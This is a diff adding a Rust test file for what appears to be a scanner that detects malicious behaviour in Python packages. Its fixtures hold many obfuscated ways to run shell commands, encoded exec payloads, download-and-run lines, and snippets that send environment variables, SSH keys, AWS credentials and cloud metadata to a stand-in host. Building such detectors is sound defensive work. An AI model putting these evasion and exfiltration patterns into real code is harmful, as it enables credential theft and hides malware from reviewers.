@@ -1,0 +1,347 @@
+//! Tests of what is read in Python source.
+
+use spip_core::{Deed, Odd, Taints, Trigger};
+
+use crate::Limits;
+use crate::module::{Module, Role, Source};
+
+/// Reads a module that is imported.
+fn read(source: &str) -> Module {
+    read_as(source, Trigger::Import, Trigger::Call)
+}
+
+fn read_as(source: &str, trigger: Trigger, uncalled: Trigger) -> Module {
+    let role = Role {
+        module: Some("demo.module".to_owned()),
+        is_package: false,
+        trigger,
+        uncalled,
+    };
+    let source = Source {
+        path: "demo/module.py",
+        bytes: source.as_bytes(),
+        role,
+        first_line: 1,
+    };
+    super::analyse(&source, &Limits::default())
+}
+
+/// One line per act: deed, callee, trigger, layers, a star where the name was disguised, taints.
+fn acts(source: &str) -> Vec<String> {
+    let module = read(source);
+    let shown = module.acts.iter().map(|known| {
+        let act = &known.act;
+        let star = if act.disguised { "*" } else { "" };
+        format!(
+            "{:?} {}{star} {:?} {} [{}]",
+            act.deed,
+            act.callee,
+            act.trigger,
+            act.layers,
+            act.taints.words()
+        )
+    });
+    shown.collect()
+}
+
+/// Whether a module does something at import, whatever it is disguised as.
+fn does(source: &str, deed: Deed, callee: &str) -> bool {
+    let module = read(source);
+    let found = module.acts.iter().any(|known| {
+        known.act.deed == deed && known.act.callee == callee && known.act.trigger == Trigger::Import
+    });
+    if !found && source.len() < 1000 {
+        eprintln!("{source}\n{:#?}", acts(source));
+    }
+    found
+}
+
+#[test]
+fn sees_through_every_way_to_name_a_function() {
+    for source in [
+        "import os\nos.system('id')",
+        "import os as o\nx = o\nx.system('id')",
+        "from os import system as s\ns('id')",
+        "from os import *\nsystem('id')",
+        "import os\ngetattr(os, 'sys' + 'tem')('id')",
+        "import os\ngetattr(os, 'metsys'[::-1])('id')",
+        "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('id')",
+        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
+        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('id')",
+        "import os\nvars(os)['system']('id')",
+        "import os\nos.__dict__['sys%s' % 'tem']('id')",
+        "import os\nos.__dict__.get('system')('id')",
+        "__import__('os').system('id')",
+        "__import__('so'[::-1]).system('id')",
+        "m = __import__\nm('os').system('id')",
+        "import importlib\nimportlib.import_module('o' + 's').system('id')",
+        "import sys\nsys.modules['os'].system('id')",
+        "globals()['__builtins__'].__import__('os').system('id')",
+        "getattr(__builtins__, '__imp' + 'ort__')('os').system('id')",
+        "__builtins__.__dict__['__import__']('os').system('id')",
+        "import builtins\nbuiltins.__getattribute__('__import__')('os').system('id')",
+        "import shutil\nshutil.os.system('id')",
+        "import os\nf, g = os.system, print\nf('id')",
+        "import os\nd = {'a': os.system}\nd['a']('id')",
+        "import os\n[os.system][0]('id')",
+        "import os\n(lambda f: f('id'))(os.system)",
+        "import os\ndef call(f, *a): return f(*a)\ncall(os.system, 'id')",
+        "import os\nclass A:\n    run = staticmethod(os.system)\nA.run('id')",
+        "import os\nclass A:\n    def __init__(self): self.f = os.system\n    def go(self): self.f('id')\nA().go()",
+        "import os, functools\nfunctools.partial(os.system, 'id')()",
+        "import os, operator\noperator.methodcaller('system', 'id')(os)",
+        "import os, operator\noperator.attrgetter('system')(os)('id')",
+        "import os\nlist(map(os.system, ['id']))",
+        "import os\nif (f := os.system): f('id')",
+        "import posix\nposix.system('id')",
+        "try:\n    import os\nexcept ImportError:\n    os = None\nos.system('id')",
+        "import os\nfor f in (os.system,):\n    f('id')",
+        "import os\nx = [f('id') for f in [os.system]]",
+        "import os\nclass M(type):\n    def __new__(c, *a, **k):\n        os.system('id')\n        return type.__new__(c, *a)\nclass A(metaclass=M): pass",
+        "import os\nclass A:\n    def __init_subclass__(cls): os.system('id')\nclass B(A): pass",
+        "import os\nclass D:\n    def __set_name__(self, o, n): os.system('id')\nclass A:\n    d = D()",
+        "import os\nclass A:\n    def __getattr__(self, n): os.system('id')\nA().anything",
+        "import os\ndef f(x=os.system('id')): pass",
+        "import os\n@os.system\ndef f(): pass",
+        "import os\nx = f\"{os.system('id')}\"",
+        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
+        "import os, threading\ndef w(): os.system('id')\nthreading.Thread(target=w).start()",
+        "import os, atexit\natexit.register(lambda: os.system('id'))",
+        "import os, threading\nclass T(threading.Thread):\n    def run(self): os.system('id')\nT().start()",
+        "import os\nclass C:\n    def __enter__(self): os.system('id')\n    def __exit__(self, *a): pass\nwith C(): pass",
+        "import os\nclass C:\n    def __add__(self, o): os.system('id')\nC() + 1",
+        "import os\ndef __getattr__(name): os.system('id')",
+        "print 'x'\nimport os\nos.system('id')",
+    ] {
+        assert!(does(source, Deed::Spawn, "os.system"), "{source}");
+    }
+}
+
+#[test]
+fn takes_encoded_code_apart() {
+    for source in [
+        "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
+        "import base64 as b\nx = b.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==')\ny = x.decode()\nexec(y)",
+        "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d282769642729'))",
+        "exec('vzcbeg bf;bf.flfgrz(\"vq\")'.encode('rot13') if 0 else __import__('codecs').decode('vzcbeg bf;bf.flfgrz(\"vq\")', 'rot13'))",
+        "exec(\")'di'(metsys.so;so tropmi\"[::-1])",
+        "exec(''.join(chr(x) for x in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))",
+        "c = [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]\ns = ''\nfor x in c:\n    s += chr(x)\nexec(s)",
+        "def d(s, k):\n    r = ''\n    for i in range(len(s)):\n        r += chr(ord(s[i]) ^ k)\n    return r\nexec(d('hlqnsu!nr:nr/rxrudl)&he&(', 1))",
+        "d = lambda s: ''.join(chr(ord(c) - 1) for c in s)\nexec(d('jnqpsu!pt<pt/tztufn)(je(*'))",
+        "i = 0\ns = 'jnqpsu!pt<pt/tztufn)(je(*'\no = ''\nwhile i < len(s):\n    o += chr(ord(s[i]) - 1)\n    i += 1\nexec(o)",
+        "exec(compile(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]), 'x', 'exec'))",
+        "eval('__import__(\"o\" + \"s\").system(\"id\")')",
+        "t = str.maketrans('abc', 'osy')\nexec('import ab;ab.bcbtem(\"id\")'.translate(t))",
+        "exec('import {0}s;{0}s.system(\"id\")'.format('o'))",
+    ] {
+        assert!(does(source, Deed::Spawn, "os.system"), "{source}");
+    }
+}
+
+#[test]
+fn follows_data_to_where_it_goes() {
+    let has = |source: &str, deed: Deed, taints: Taints| {
+        let module = read(source);
+        let found = module
+            .acts
+            .iter()
+            .any(|known| known.act.deed == deed && known.act.taints.all(taints));
+        assert!(found, "{source}\n{:#?}", acts(source));
+    };
+    has(
+        "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
+        Deed::Send,
+        Taints::ENVIRONMENT,
+    );
+    has(
+        "import os, requests\nd = {k: v for k, v in os.environ.items()}\nrequests.post('https://x.invalid', data=str(d))",
+        Deed::Send,
+        Taints::ENVIRONMENT,
+    );
+    has(
+        "import os, urllib.request as u, json\nd = json.dumps({'k': open(os.path.expanduser('~/.ssh/id_rsa')).read()})\nu.urlopen(u.Request('https://x.invalid', data=d.encode()))",
+        Deed::Send,
+        Taints::SECRET_FILE,
+    );
+    has(
+        "from pathlib import Path\nimport httpx\np = Path.home() / '.aws' / 'credentials'\nhttpx.post('https://x.invalid', content=p.read_text())",
+        Deed::Send,
+        Taints::SECRET_FILE,
+    );
+    has(
+        "import os, requests\nh = os.environ['HOME']\nout = {}\nfor n in ['.ssh/id_rsa', '.npmrc']:\n    with open(os.path.join(h, n)) as f:\n        out[n] = f.read()\nrequests.post('https://x.invalid', json=out)",
+        Deed::Send,
+        Taints::SECRET_FILE,
+    );
+    has(
+        "import socket, getpass, requests\ndef info():\n    return {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.get('https://x.invalid/?q=%s' % info())",
+        Deed::Send,
+        Taints::IDENTITY,
+    );
+    has(
+        "import requests\nexec(requests.get('https://x.invalid').text)",
+        Deed::Execute,
+        Taints::DOWNLOADED,
+    );
+    has(
+        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a.bin')\nsubprocess.Popen(['/tmp/a.bin'])",
+        Deed::Spawn,
+        Taints::DOWNLOADED.with(Taints::DROPPED),
+    );
+    has(
+        "import requests, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'x.exe')\nopen(p, 'wb').write(requests.get('https://x.invalid').content)\nos.startfile(p)",
+        Deed::Spawn,
+        Taints::DOWNLOADED,
+    );
+    has(
+        "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
+        Deed::Execute,
+        Taints::UNMARSHALLED,
+    );
+    has(
+        "import types, marshal\ntypes.FunctionType(marshal.loads(b'c'), globals())()",
+        Deed::Execute,
+        Taints::UNMARSHALLED,
+    );
+    has(
+        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))",
+        Deed::Execute,
+        Taints::DECRYPTED,
+    );
+    has(
+        "import os\nd = open(os.path.join(os.path.dirname(__file__), 'x.dat'), 'rb').read()\nexec(bytes(b ^ 7 for b in d))",
+        Deed::Execute,
+        Taints::PACKAGE_DATA,
+    );
+    has(
+        "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/')\nrequests.post('https://x.invalid', data=r.text)",
+        Deed::Send,
+        Taints::CLOUD_METADATA,
+    );
+}
+
+#[test]
+fn tells_when_code_runs() {
+    let trigger = |source: &str| {
+        let module = read(source);
+        module
+            .acts
+            .iter()
+            .filter(|known| known.act.deed == Deed::Spawn)
+            .map(|known| known.act.trigger)
+            .max()
+    };
+    assert_eq!(
+        trigger("import os\ndef f(): os.system('id')"),
+        Some(Trigger::Call)
+    );
+    assert_eq!(
+        trigger("import os\ndef f(): os.system('id')\nf()"),
+        Some(Trigger::Import)
+    );
+    assert_eq!(
+        trigger("import os\nif __name__ == '__main__':\n    os.system('id')"),
+        Some(Trigger::Call)
+    );
+    let build = read_as(
+        "import os\nclass X:\n    def run(self): os.system('id')",
+        Trigger::Build,
+        Trigger::Build,
+    );
+    assert_eq!(build.acts[0].act.trigger, Trigger::Build);
+}
+
+#[test]
+fn says_when_a_name_was_put_together() {
+    let disguised = |source: &str| read(source).acts.iter().any(|known| known.act.disguised);
+    assert!(disguised("getattr(__builtins__, 'ex' + 'ec')('1')"));
+    assert!(disguised("__import__('subpro' + 'cess').run(['id'])"));
+    assert!(disguised(
+        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')"
+    ));
+    assert!(!disguised("import os\ngetattr(os, 'system')('id')"));
+    assert!(!disguised(
+        "import importlib\nimportlib.import_module('demo.' + 'plugins').load()"
+    ));
+    assert!(!disguised("import os\nos.system('make ' + 'all')"));
+}
+
+#[test]
+fn reads_text_that_hides_from_its_reader() {
+    let odd = |source: &str| {
+        read(source)
+            .oddities
+            .iter()
+            .map(|oddity| oddity.what)
+            .collect::<Vec<_>>()
+    };
+    let blanks = " ".repeat(300);
+    assert_eq!(odd(&format!("x = 1;{blanks}print(1)")), [Odd::OffScreen]);
+    assert_eq!(
+        odd(&format!("if True:\n{blanks}print(1)\n")),
+        [Odd::OffScreen]
+    );
+    assert_eq!(odd(&format!("x = 1{blanks}# far away")), []);
+    assert_eq!(odd("\u{1d4ee}\u{1d4fd}\u{1d4ec} = 1"), [Odd::Homoglyph]);
+    assert_eq!(odd("# \u{202e} reversed\nx = 1"), [Odd::Bidi]);
+    assert_eq!(odd("x = 1\n# a\rprint(1)\n"), [Odd::ControlCharacter]);
+    assert_eq!(
+        odd(&format!("x = '{}'", "\u{fe01}".repeat(40))),
+        [Odd::ZeroWidth]
+    );
+    assert_eq!(
+        odd("x = '\u{65e5}\u{672c}'  # \u{e9}t\u{e9}\ny = 1\r\nz = 2\r\n"),
+        []
+    );
+}
+
+#[test]
+fn survives_nesting_and_loops_without_end() {
+    let deep = format!("x = {}1{}", "(".repeat(3000), ")".repeat(3000));
+    let minus = format!("x = {}1", "-".repeat(3000));
+    let chain = format!("x = a{}", ".b".repeat(3000));
+    let calls = format!("x = {}1{}", "f(".repeat(1000), ")".repeat(1000));
+    for source in [
+        deep.as_str(),
+        &minus,
+        &chain,
+        &calls,
+        "while True: pass",
+        "i = 0\nwhile i < 10:\n    j = 1",
+        "def f(n): return f(n)\nf(1)",
+        "def f(n): return f(n + 1) + f(n + 2)\nf(1)",
+        "x = 'a' * 10**9",
+        "x = [0] * 10**9",
+        "for i in range(10**12): pass",
+        "x = []\nx.append(x)\nprint(x)",
+        "d = {}\nd['d'] = d\nimport requests\nrequests.post('http://x.invalid', json=d)",
+        "x = 9 ** 9 ** 9 ** 9",
+        "exec('exec(' * 50)",
+    ] {
+        let worker = std::thread::Builder::new().stack_size(512 << 20);
+        let source = source.to_owned();
+        worker.spawn(move || read(&source)).unwrap().join().unwrap();
+    }
+}
+
+#[test]
+fn peels_many_layers() {
+    use std::io::Write;
+    let mut code = "import os;os.system('id')".to_owned();
+    for _ in 0..40 {
+        let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        packed.write_all(code.as_bytes()).unwrap();
+        let packed = data_encoding::HEXLOWER.encode(&packed.finish().unwrap());
+        let turned: String = packed.chars().rev().collect();
+        code = format!("exec(__import__('zlib').decompress(bytes.fromhex('{turned}'[::-1])))");
+    }
+    let worker = std::thread::Builder::new().stack_size(512 << 20);
+    assert!(
+        worker
+            .spawn(move || does(&code, Deed::Spawn, "os.system"))
+            .unwrap()
+            .join()
+            .unwrap()
+    );
+}
